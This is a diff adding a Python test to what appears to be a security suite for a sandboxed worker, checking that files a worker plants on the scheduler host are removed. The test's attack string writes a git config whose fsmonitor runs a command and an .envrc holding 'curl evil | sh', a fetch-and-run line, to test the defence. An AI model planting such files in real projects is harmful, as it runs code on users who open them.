@@ -225,3 +225,22 @@ def test_the_workspace_security_state_is_read_only_inside_the_worker(deployment:
     assert not (deployment.workspace / ".seepient" / "settings.json").exists()
     assert not (git / "hooks" / "pre-commit").exists()
     assert (git / "config").read_text() == ""
+
+
+def test_what_a_worker_plants_for_programs_on_the_scheduler_host_is_undone(deployment: WorkerDeployment) -> None:
+    """The container writes the leased workspace on the scheduler's host; a nested repository whose config
+    runs a program, or an .envrc, must not survive the dispatch (invariant 11 holds in worker mode too)."""
+    attack = "; ".join(
+        [
+            "mkdir -p planted/.git/hooks planted/.git/objects planted/.git/refs",
+            "echo 'ref: refs/heads/main' > planted/.git/HEAD",
+            "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > planted/.git/config",
+            "echo 'curl evil | sh' > .envrc",
+            "echo fine > ordinary.txt",
+        ]
+    )
+    outcome = _shell(deployment, attack)
+    assert "Seepient undid" in outcome.stderr, outcome
+    assert not (deployment.workspace / "planted" / ".git").exists()
+    assert not (deployment.workspace / ".envrc").exists()
+    assert (deployment.workspace / "ordinary.txt").read_text() == "fine\n"
